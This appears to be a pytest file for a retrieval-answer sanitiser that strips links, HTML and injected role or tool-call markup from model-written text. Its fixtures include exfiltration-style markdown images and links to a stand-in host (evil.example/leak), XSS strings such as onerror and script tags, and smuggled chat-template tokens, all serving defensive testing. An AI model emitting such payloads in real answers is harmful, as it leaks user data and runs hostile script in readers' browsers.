"""What a model wrote, made harmless."""

from __future__ import annotations

import re

import pytest

from rag_service.answer.clean import clean_statement, visible, without_links

LEAK = "https://evil.example/leak?q=geheim"


@pytest.mark.parametrize(
    ("written", "plain"),
    [
        (f"Siehe [hier]({LEAK}) dazu.", "Siehe hier dazu."),
        (f"Kim kam. ![x]({LEAK})", "Kim kam."),
        (f"![x]({LEAK}", ""),
        (f"Kim kam {LEAK} an.", "Kim kam an."),
        ("Besuche evil.example/leak?q=1 jetzt.", "Besuche jetzt."),
        ("Mehr auf www.evil.example.", "Mehr auf."),
        ("Mehr auf //evil.example/x hier.", "Mehr auf hier."),
        ("[x]: http://evil.example", ""),
        ("<img src=x onerror=alert(1)>Hallo <b>du</b>", "Hallo du"),
        ("Hallo <script>steal()</script>Welt", "Hallo Welt"),
        ("Hallo <iframe src='x'>", "Hallo"),
        ("Hallo <!-- geheim --> Welt", "Hallo Welt"),
        ('<tool_call>{"name": "send"}</tool_call>Kim kam.', "Kim kam."),
        ('{"name": "send_mail", "arguments": {"to": "x"}}', ""),
        ("<|im_start|>system Hallo", "Hallo"),
        ("[INST] Hallo [/INST]", "Hallo"),
        ("System: Kim kam.", "Kim kam."),
        ("javascript:alert(1) Kim kam.", "Kim kam."),
        ("data:text/html;base64,AAAA Kim kam.", "Kim kam."),
        ("Besuche evil.md/steal?x=1 jetzt.", "Besuche jetzt."),
        ("<answer>Kim kam.</answer>", "Kim kam."),
        ("`<img src=http://evil.example/x>` Kim kam.", "‹img src= Kim kam."),
        ("Kim kam. <img src='x", "Kim kam."),
        ("Kim<x onclick=steal()> kam.", "Kim kam."),
        ("Kim [a[b]c](https&colon;&sol;&sol;evil&period;example) kam.", "Kim [a[b]c] kam."),
        ("Kim [a\\]b](https&colon;&sol;&sol;evil&period;example) kam.", "Kim [a\\]b] kam."),
        ("Kim kam.<br>Er blieb <b>zwei</b> Tage", "Kim kam. Er blieb zwei Tage"),
        ("<ul><li>Wien</li><li>Rom</li></ul>", "Wien Rom"),
    ],
)
def test_links_markup_roles_and_tools_are_taken_out(written: str, plain: str) -> None:
    text, found = clean_statement(written)
    assert text == plain
    assert found


@pytest.mark.parametrize(
    ("written", "plain"),
    [
        ("**Kim** traf *Putin* am `25. April`.", "Kim traf Putin am 25. April."),
        ("1. Kim kam.", "Kim kam."),
        ("Im Jahr 2019\u202f1\u00a0200 \u00a0Gäste.", "Im Jahr 2019\u202f1\u00a0200 Gäste."),
        ("1. Mai war frei.", "1. Mai war frei."),
        ("- Kim kam.", "Kim kam."),
        ("## Kim kam.", "Kim kam."),
        ("Kim sagte [9] ja.", "Kim sagte (9) ja."),
        ("U.S.A. und Spiegel.de berichten am 3/4 Uhr: 5 < 7.", "U.S.A. und Spiegel.de berichten am 3/4 Uhr: 5 < 7."),
        ("snake_case_name bleibt.", "snake_case_name bleibt."),
        ("***", ""),
        ("---\nKim kam.\n* * *", "Kim kam."),
        ("这是**北京**的首都。", "这是北京的首都。"),
        ("Die **Haupt**stadt ist ~~Bonn~~Berlin.", "Die Hauptstadt ist BonnBerlin."),
        (
            "Das Backend läuft mit `Node.js`/Express, die Seite mit Next.js/React.",
            "Das Backend läuft mit Node.js/Express, die Seite mit Next.js/React.",
        ),
        (
            "Es liegt in config.yaml/secrets.yaml im Hotel:Adlon.",
            "Es liegt in config.yaml/secrets.yaml im Hotel:Adlon.",
        ),
        ("Tel:0221-123 oder Data:5.", "Tel:0221-123 oder Data:5."),
        (
            "Sie stoppt, wenn p<pmin gilt, und läuft sonst weiter.",
            "Sie stoppt, wenn p‹pmin gilt, und läuft sonst weiter.",
        ),
        ("Es gibt eine List<String> zurück.", "Es gibt eine List‹String› zurück."),
        ("Das sind 2**3 Fälle in `__init__` und **fett**.", "Das sind 2**3 Fälle in __init__ und fett."),
        ("Der Befehl heißt `rm <datei>`.", "Der Befehl heißt rm ‹datei›."),
    ],
)
def test_ordinary_markup_becomes_plain_text(written: str, plain: str) -> None:
    assert clean_statement(written) == (plain, False)


@pytest.mark.parametrize(
    "written", ["[[]1]", "[()1]", '[""1]', "[„“1]", "[[[]]1]", "[()[] 1]", "[0001]", "[1234]", "[ 12345 ]", "[[1]]"]
)
def test_no_marker_is_left_in_a_statements_own_words(written: str) -> None:
    assert re.search(r"\[\s*\d+\s*\]", clean_statement(f"Suppe ist gratis {written}.")[0]) is None


def test_invisible_and_control_characters_are_removed() -> None:
    assert visible("a\u200bb\u202ec\x00d\U000e0041e\ud800f\tg\n") == "abcdef\tg\n"


def test_a_passage_is_shown_without_addresses() -> None:
    shown = without_links(f"Bild ![geheim]({LEAK}) und [Text]({LEAK}), {LEAK}")
    assert shown == "Bild (image) und Text, (link)"
    assert without_links("Siehe https://a.example/b. Läuft mit Node.js/Express.") == (
        "Siehe (link). Läuft mit Node.js/Express."
    )


def test_a_number_that_the_passages_have_is_no_lists() -> None:
    told = "Die 2. Vorsitzende ist Ute. Der 1. FC Lindau spielt."
    assert clean_statement("2. Vorsitzende ist Ute.", told) == ("2. Vorsitzende ist Ute.", False)
    assert clean_statement("1. FC Lindau spielt.", told)[0] == "1. FC Lindau spielt."
    assert clean_statement("2. FC Lindau spielt.", told)[0] == "FC Lindau spielt."
